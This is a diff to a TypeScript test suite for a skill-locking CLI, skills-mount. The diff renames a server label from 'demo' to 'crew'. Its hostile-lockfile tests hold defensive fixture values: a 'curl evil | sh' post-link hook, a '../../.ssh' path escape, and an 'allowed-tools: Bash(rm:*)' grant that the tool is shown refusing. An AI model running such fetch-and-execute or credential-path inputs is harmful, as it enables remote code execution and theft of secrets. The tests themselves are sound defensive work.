@@ -49,10 +49,14 @@ async function scratch(prefix: string): Promise<string> {
   return dir;
 }
 
-/** A person whose config names the team's server as "demo", with a token of their own in the URL. */
+/**
+ * A person whose config names the team's server as "crew", with a token of their own in the URL.
+ * Not "demo", the label the mount tests use: link reads a label's bytes from a running mount that
+ * serves the label before the configured server, so a test mount of "demo" would stand in for it.
+ */
 async function teammate(base: string, name: string, server: ListeningServer, extra: Record<string, unknown> = {}): Promise<Person> {
   const who = await person(base, name);
-  await writeConfig(who, { demo: { url: `${server.url}?token=${name}-QUERY-SECRET`, ...extra } });
+  await writeConfig(who, { crew: { url: `${server.url}?token=${name}-QUERY-SECRET`, ...extra } });
   return who;
 }
 
@@ -98,12 +102,12 @@ describe('a team lock: lock, link on another machine, the server moving on, upda
   });
 
   it('lock writes a sorted lockfile, one line per file, with no secret; a teammate who approved nothing links exactly the locked skills; verify passes', async () => {
-    const locked = await cli(alice, ['lock', 'demo/y', 'demo/x', '--project', project, '--yes']);
+    const locked = await cli(alice, ['lock', 'crew/y', 'crew/x', '--project', project, '--yes']);
     expectOk(locked);
-    expect(locked.stdout).toMatch(new RegExp(`locked demo/x: 2 files, set sha256:[0-9a-f]{64}, in ${lockfile}`));
+    expect(locked.stdout).toMatch(new RegExp(`locked crew/x: 2 files, set sha256:[0-9a-f]{64}, in ${lockfile}`));
     const text = await readFile(lockfile, 'utf8');
     // The exact entries, computed here from the served bytes; the server by its URL alone.
-    expect(JSON.parse(text)).toEqual(rawLockfile({ demo: { url: server.url } }, [lockedEntry('demo', 'x', X1), lockedEntry('demo', 'y', Y)]));
+    expect(JSON.parse(text)).toEqual(rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'x', X1), lockedEntry('crew', 'y', Y)]));
     expect(text).not.toMatch(/SECRET|token=|Bearer|Authorization|X-Api-Key/i);
     const fileLines = text.split('\n').filter((line) => line.includes('"path":') && line.includes('"digest":'));
     expect(fileLines).toHaveLength(4);
@@ -148,13 +152,13 @@ describe('a team lock: lock, link on another machine, the server moving on, upda
     ]);
 
     expect(outdated.code, outdated.stderr).toBe(1);
-    const lockedX = lockedEntry('demo', 'x', X1);
-    expect(outdated.stdout).toContain(`demo/x: the server serves another version (locked set ${lockedX.resourcesDigest}, served sha256:`);
+    const lockedX = lockedEntry('crew', 'x', X1);
+    expect(outdated.stdout).toContain(`crew/x: the server serves another version (locked set ${lockedX.resourcesDigest}, served sha256:`);
     expect(outdated.stdout).toMatch(/^ {2}changed {2}SKILL\.md {2}\d+ B -> \d+ B$/m);
     expect(outdated.stdout).toContain('  ! allowed-tools: Bash(rm:*)  (new in this version: an update never grants it)');
-    const diff = ['  --- a/demo/x/SKILL.md', '  +++ b/demo/x/SKILL.md', '  -description: Does x things', '  +description: Does x things better', '  +allowed-tools: Bash(rm:*)', '  +new body'];
+    const diff = ['  --- a/crew/x/SKILL.md', '  +++ b/crew/x/SKILL.md', '  -description: Does x things', '  +description: Does x things better', '  +allowed-tools: Bash(rm:*)', '  +new body'];
     for (const line of diff) expect(outdated.stdout.split('\n')).toContain(line);
-    expect(outdated.stdout).toContain('demo/y: current');
+    expect(outdated.stdout).toContain('crew/y: current');
     expect(outdated.stdout).toContain('2 locked skills: 1 current, 1 changed');
 
     expect(json.code, json.stderr).toBe(1);
@@ -162,14 +166,14 @@ describe('a team lock: lock, link on another machine, the server moving on, upda
     expect(report.lockfile).toBe(lockfile);
     expect(report.skills).toEqual([
       expect.objectContaining({
-        server: 'demo',
+        server: 'crew',
         path: 'x',
         state: 'changed',
         lockedResourcesDigest: lockedX.resourcesDigest,
         files: [{ path: 'SKILL.md', change: 'changed', lockedBytes: Buffer.byteLength(X1['SKILL.md']), servedBytes: Buffer.byteLength(X2_SKILL_MD) }],
         newPermissionFields: [{ field: 'allowed-tools', value: 'Bash(rm:*)' }],
       }),
-      { server: 'demo', path: 'y', state: 'current', lockedResourcesDigest: lockedEntry('demo', 'y', Y).resourcesDigest },
+      { server: 'crew', path: 'y', state: 'current', lockedResourcesDigest: lockedEntry('crew', 'y', Y).resourcesDigest },
     ]);
     // The same diff as the text shows.
     for (const line of diff) expect((report.skills[0]!.skillMdDiff as string).split('\n')).toContain(line.slice(2));
@@ -181,11 +185,11 @@ describe('a team lock: lock, link on another machine, the server moving on, upda
     expect(linkedSkillMd).not.toContain('new body');
 
     expect(against.code, against.stderr).toBe(1);
-    expect(against.stdout).toContain('demo/x: the server serves another version: SKILL.md changed');
-    expect(against.stdout).not.toMatch(/^demo\/y/m);
+    expect(against.stdout).toContain('crew/x: the server serves another version: SKILL.md changed');
+    expect(against.stdout).not.toMatch(/^crew\/y/m);
 
     expect(fresh.code, fresh.stderr).toBe(1);
-    expect(fresh.stdout).toMatch(/demo\/x is not linked: SKILL\.md: the bytes read \(\d+ bytes, sha256:[0-9a-f]{64}\) are not the approved ones/);
+    expect(fresh.stdout).toMatch(/crew\/x is not linked: SKILL\.md: the bytes read \(\d+ bytes, sha256:[0-9a-f]{64}\) are not the approved ones/);
     expect(await namesIn(path.join(clone, '.claude', 'skills'))).toEqual(['y']);
   });
 
@@ -199,20 +203,21 @@ describe('a team lock: lock, link on another machine, the server moving on, upda
     await writeFile(lockfile, lockText(lock));
     const verified = await cli(bob, ['verify', '--project', project]);
     expect(verified.code, verified.stdout + verified.stderr).toBe(1);
-    expect(verified.stdout).toMatch(/\/y: .*/);
+    expect(verified.stdout).toContain(`${path.join(root, 'y')}: crew skill://y/SKILL.md is locked with other files`);
+    expect(verified.stdout).not.toMatch(/skills\/x: /);
     expect(verified.stdout).toMatch(/1 difference/);
     await git(project, 'checkout', '-q', '--', LOCKFILE);
     expectOk(await cli(bob, ['verify', '--project', project]));
   });
 
   it('update rewrites only x\'s entry and grants nothing new; link then gives the new bytes; outdated exits 0', async () => {
-    const updated = await cli(alice, ['update', 'demo/x', '--project', project, '--yes']);
+    const updated = await cli(alice, ['update', 'crew/x', '--project', project, '--yes']);
     expectOk(updated);
     expect(updated.stdout).toContain('  ! allowed-tools: Bash(rm:*)  (new in this version: an update never grants it)');
-    expect(updated.stdout).toMatch(/updated demo\/x: set sha256:[0-9a-f]{64}\n/);
+    expect(updated.stdout).toMatch(/updated crew\/x: set sha256:[0-9a-f]{64}\n/);
     const lock = JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile;
-    const x2 = lockedEntry('demo', 'x', { ...X1, 'SKILL.md': X2_SKILL_MD });
-    expect(lock.skills).toEqual([x2, lockedEntry('demo', 'y', Y)]);
+    const x2 = lockedEntry('crew', 'x', { ...X1, 'SKILL.md': X2_SKILL_MD });
+    expect(lock.skills).toEqual([x2, lockedEntry('crew', 'y', Y)]);
     expect(lock.skills[0]!.grants).toEqual({ allowedTools: null, exec: false });
     // A small diff: x's two digests and its SKILL.md line.
     expect((await git(project, 'diff', '--numstat', '--', LOCKFILE)).trim()).toBe(`3\t3\t${LOCKFILE}`);
@@ -228,9 +233,9 @@ describe('a team lock: lock, link on another machine, the server moving on, upda
   });
 
   it('unlock removes the entry, and link then removes it from the root', async () => {
-    const unlocked = await cli(alice, ['unlock', 'demo/x', '--project', project]);
+    const unlocked = await cli(alice, ['unlock', 'crew/x', '--project', project]);
     expectOk(unlocked);
-    expect(unlocked.stdout).toContain(`unlocked demo/x (${lockfile})`);
+    expect(unlocked.stdout).toContain(`unlocked crew/x (${lockfile})`);
     expect((JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile).skills.map((skill) => skill.path)).toEqual(['y']);
     const linked = await cli(bob, ['link', 'claude-code', '--project', project]);
     expectOk(linked);
@@ -261,7 +266,7 @@ describe('hostile lockfiles and the policy', () => {
     base = await scratch('team-lock-hostile-');
     served = await servedFolder(base);
     server = await startHttpServe([served]);
-    good = rawLockfile({ demo: { url: server.url } }, [lockedEntry('demo', 'x', X1), lockedEntry('demo', 'y', Y)]);
+    good = rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'x', X1), lockedEntry('crew', 'y', Y)]);
   });
   afterAll(async () => {
     await server?.stop();
@@ -295,18 +300,18 @@ describe('hostile lockfiles and the policy', () => {
         },
         says: new RegExp(`${LOCKFILE}: is ${MAX_LOCKFILE_BYTES + 1} bytes; a lockfile is at most ${MAX_LOCKFILE_BYTES}`),
       },
-      { name: 'digest', lock: bad((lock) => void (lock.skills[1]!.files[1]!.digest = sha256Of('swapped\n'))), says: /skills\[1\] \(demo\/y\): has a resourcesDigest that does not match its files/ },
-      { name: 'escape', lock: bad((lock) => void (lock.skills[1]!.path = '../../.ssh')), says: /skills\[1\] \(demo\/\.\.\/\.\.\/\.ssh\): has a path that has an empty, "\." or "\.\." segment/ },
-      { name: 'duplicate', lock: bad((lock) => void lock.skills.push(copyOf(lock.skills[0]!))), says: /skills\[2\] \(demo\/x\): locks the same skill as skills\[0\] \(demo\/x\)/ },
+      { name: 'digest', lock: bad((lock) => void (lock.skills[1]!.files[1]!.digest = sha256Of('swapped\n'))), says: /skills\[1\] \(crew\/y\): has a resourcesDigest that does not match its files/ },
+      { name: 'escape', lock: bad((lock) => void (lock.skills[1]!.path = '../../.ssh')), says: /skills\[1\] \(crew\/\.\.\/\.\.\/\.ssh\): has a path that has an empty, "\." or "\.\." segment/ },
+      { name: 'duplicate', lock: bad((lock) => void lock.skills.push(copyOf(lock.skills[0]!))), says: /skills\[2\] \(crew\/x\): locks the same skill as skills\[0\] \(crew\/x\)/ },
       { name: 'newer', lock: bad((lock) => void (lock.lockfileVersion = 2)), says: /is lockfileVersion 2, written by a newer skills-mount; this one reads version 1: upgrade skills-mount/ },
       { name: 'unknown', lock: bad((lock) => void ((lock.skills[0] as unknown as Record<string, unknown>).postLink = 'curl evil | sh')), says: /skills\[0\]: has unknown field "postLink"/ },
       {
         // x's files under y's path: a policy rule on "y" would have judged x.
         name: 'moved',
         lock: bad((lock) => {
-          lock.skills = [{ ...lockedEntry('demo', 'x', X1), path: 'y', name: 'y' }];
+          lock.skills = [{ ...lockedEntry('crew', 'x', X1), path: 'y', name: 'y' }];
         }),
-        says: /skills\[0\] \(demo\/y\): has uri skill:\/\/x\/SKILL\.md, which is not the SKILL\.md of its path/,
+        says: /skills\[0\] \(crew\/y\): has uri skill:\/\/x\/SKILL\.md, which is not the SKILL\.md of its path/,
       },
     ];
     const projects = await Promise.all(cases.map((one) => hostileProject(one.name, one.lock)));
@@ -328,7 +333,7 @@ describe('hostile lockfiles and the policy', () => {
     otherServer.skills[0]!.server = 'other';
     const shownCommand = [process.execPath, ...otherServer.servers.other.args].join(' ');
     const granted = copyOf(good);
-    granted.skills[0] = lockedEntry('demo', 'x', X1, { exec: true });
+    granted.skills[0] = lockedEntry('crew', 'x', X1, { exec: true });
     const [unknown, policed] = await Promise.all([hostileProject('other-server', lockText(otherServer)), hostileProject('grant', lockText(granted))]);
     await writePolicy(policed.who, { policyVersion: 1, neverGrant: ['exec'] });
     const [first, second, outdated] = await Promise.all([
@@ -339,24 +344,24 @@ describe('hostile lockfiles and the policy', () => {
     // A server outdated could not ask: exit 2, named.
     expect(outdated.code, outdated.stdout + outdated.stderr).toBe(2);
     expect(outdated.stdout).toContain(`other/x: could not be asked: the configuration has no server "other" (the lock names ${shownCommand})`);
-    expect(outdated.stdout).toContain('demo/y: current');
+    expect(outdated.stdout).toContain('crew/y: current');
     expect(first.code, first.stdout + first.stderr).toBe(1);
     expect(first.stdout).toContain(`other/x is not linked: the lock names server "other" (${shownCommand}) and the configuration here has no server "other"`);
     // Servers come from the configuration only: nothing the lockfile names is ever started.
     await expect(access(marker)).rejects.toThrow(/ENOENT/);
-    expect(await namesIn(unknown.root)).toEqual(['mine', 'y']);
+    expect(await namesIn(unknown.root), first.stdout + first.stderr).toEqual(['mine', 'y']);
     expect(second.code, second.stdout + second.stderr).toBe(1);
-    expect(second.stdout).toContain(`demo/x is not linked: refused by policy ${policed.who.policyFile} (neverGrant): server "demo" (${server.url}) may not be granted exec: it is never given`);
-    expect(await namesIn(policed.root)).toEqual(['mine', 'y']);
+    expect(second.stdout).toContain(`crew/x is not linked: refused by policy ${policed.who.policyFile} (neverGrant): server "crew" (${server.url}) may not be granted exec: it is never given`);
+    expect(await namesIn(policed.root), second.stdout + second.stderr).toEqual(['mine', 'y']);
     for (const { root } of [unknown, policed]) expect(await readFile(path.join(root, 'mine', 'SKILL.md'), 'utf8')).toBe(USER_SKILL);
   });
 
   it('lock refuses to re-point a label whose other entries were locked from another server (the same bytes over stdio included)', async () => {
     const { who, project } = await hostileProject('other-identity', lockText(good));
     const before = await readFile(path.join(project, LOCKFILE), 'utf8');
-    const locked = await cli(who, ['lock', 'demo/z', '--project', project, '--yes', '--server', `demo=${process.execPath} ${SKILLS_SERVE} ${served}`]);
+    const locked = await cli(who, ['lock', 'crew/z', '--project', project, '--yes', '--server', `crew=${process.execPath} ${SKILLS_SERVE} ${served}`]);
     expect(locked.code, locked.stdout + locked.stderr).toBe(1);
-    expect(locked.stdout).toContain(`skills-mount: demo/z: the lock names server "demo" as ${server.url}, and demo/x, demo/y were locked from it; the configuration here has another server by that label`);
+    expect(locked.stdout).toContain(`skills-mount: crew/z: the lock names server "crew" as ${server.url}, and crew/x, crew/y were locked from it; the configuration here has another server by that label`);
     expect(await readFile(path.join(project, LOCKFILE), 'utf8')).toBe(before);
   });
 
@@ -370,19 +375,19 @@ describe('hostile lockfiles and the policy', () => {
     const before = await readFile(path.join(project, LOCKFILE), 'utf8');
     const [linked, locked, pathRule] = await Promise.all([
       cli(who, ['link', 'claude-code', '--project', project]),
-      cli(who, ['lock', 'demo/z', '--project', project, '--yes']),
+      cli(who, ['lock', 'crew/z', '--project', project, '--yes']),
       cli(onlyY.who, ['link', 'claude-code', '--project', onlyY.project]),
     ]);
     expect(pathRule.code, pathRule.stdout + pathRule.stderr).toBe(1);
-    expect(pathRule.stdout).toContain(`demo/x is not linked: refused by policy ${onlyY.who.policyFile} (skills: no rule matches): skill "x" of server "demo" (${server.url}) may not be linked`);
-    expect(await namesIn(onlyY.root)).toEqual(['mine', 'y']);
+    expect(pathRule.stdout).toContain(`crew/x is not linked: refused by policy ${onlyY.who.policyFile} (skills: no rule matches): skill "x" of server "crew" (${server.url}) may not be linked`);
+    expect(await namesIn(onlyY.root), pathRule.stdout + pathRule.stderr).toEqual(['mine', 'y']);
     expect(linked.code, linked.stdout + linked.stderr).toBe(1);
     for (const skill of ['x', 'y']) {
-      expect(linked.stdout).toContain(`demo/${skill} is not linked: refused by policy ${who.policyFile} (servers[0]): skill "${skill}" of server "demo" (${server.url}) may not be linked`);
+      expect(linked.stdout).toContain(`crew/${skill} is not linked: refused by policy ${who.policyFile} (servers[0]): skill "${skill}" of server "crew" (${server.url}) may not be linked`);
     }
     expect(await namesIn(root)).toEqual(['mine']);
     expect(locked.code, locked.stdout + locked.stderr).toBe(1);
-    expect(locked.stdout).toContain(`demo/z: refused by policy ${who.policyFile} (servers[0]): server "demo" (${server.url}) may not be locked`);
+    expect(locked.stdout).toContain(`crew/z: refused by policy ${who.policyFile} (servers[0]): server "crew" (${server.url}) may not be locked`);
     expect(await readFile(path.join(project, LOCKFILE), 'utf8')).toBe(before);
   });
 });
@@ -405,8 +410,8 @@ describe('link --watch and writers racing it', () => {
     const project = await gitProject(path.join(base, 'project'));
     const lockfile = path.join(project, LOCKFILE);
     const root = path.join(project, '.claude', 'skills');
-    const both = rawLockfile({ demo: { url: server.url } }, [lockedEntry('demo', 'x', X1), lockedEntry('demo', 'y', Y)]);
-    const onlyY = rawLockfile({ demo: { url: server.url } }, [lockedEntry('demo', 'y', Y)]);
+    const both = rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'x', X1), lockedEntry('crew', 'y', Y)]);
+    const onlyY = rawLockfile({ crew: { url: server.url } }, [lockedEntry('crew', 'y', Y)]);
     await writeFile(lockfile, lockText(both));
     const dana = await teammate(base, 'dana', server);
     const watching = startCli(dana, ['link', 'claude-code', '--project', project, '--watch']);
@@ -447,7 +452,7 @@ describe('link --watch and writers racing it', () => {
           await changeLockfile(lockfile, (lock) => ({ servers: lock.servers, skills: round % 2 === 0 ? lock.skills.filter((skill) => skill.path !== 'y') : [...lock.skills, y] }));
         }
       })();
-      const [updated, locked] = await Promise.all([cli(dana, ['update', 'demo/x', '--project', project, '--yes']), cli(dana, ['lock', 'demo/z', '--project', project, '--yes']), writes]);
+      const [updated, locked] = await Promise.all([cli(dana, ['update', 'crew/x', '--project', project, '--yes']), cli(dana, ['lock', 'crew/z', '--project', project, '--yes']), writes]);
       const reads = await reader.stop();
       expectOk(updated);
       expectOk(locked);
@@ -456,7 +461,7 @@ describe('link --watch and writers racing it', () => {
 
       // Every writer's change is there: x updated, y back (the last round), z locked.
       const final = JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile;
-      expect(final.skills).toEqual([lockedEntry('demo', 'x', { ...X1, 'SKILL.md': X2_SKILL_MD }), lockedEntry('demo', 'y', Y), lockedEntry('demo', 'z', Z)]);
+      expect(final.skills).toEqual([lockedEntry('crew', 'x', { ...X1, 'SKILL.md': X2_SKILL_MD }), lockedEntry('crew', 'y', Y), lockedEntry('crew', 'z', Z)]);
       expect(await namesIn(project)).toEqual(['.claude', '.git', LOCKFILE]);
       // And link --watch followed: the new x, y and z in the root.
       await timeUntil(async () => [(await namesIn(root)).join(), await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8').catch(() => '')] as const, ([names, x]) => names === 'x,y,z' && x.includes('new body'), 10_000, 'the root after the writes', watching.stderr);
@@ -477,7 +482,7 @@ describe('link --watch and writers racing it', () => {
 });
 
 /** How the refusal of the broken lockfile in the --watch test names its entry. */
-const BROKEN_ENTRY = /skills\[0\] \(demo\/y\): has a resourcesDigest that does not match its files/;
+const BROKEN_ENTRY = /skills\[0\] \(crew\/y\): has a resourcesDigest that does not match its files/;
 /** What link --watch had logged once that broken lockfile was recorded. */
 let watchLogAfterBrokenLock = '';
 
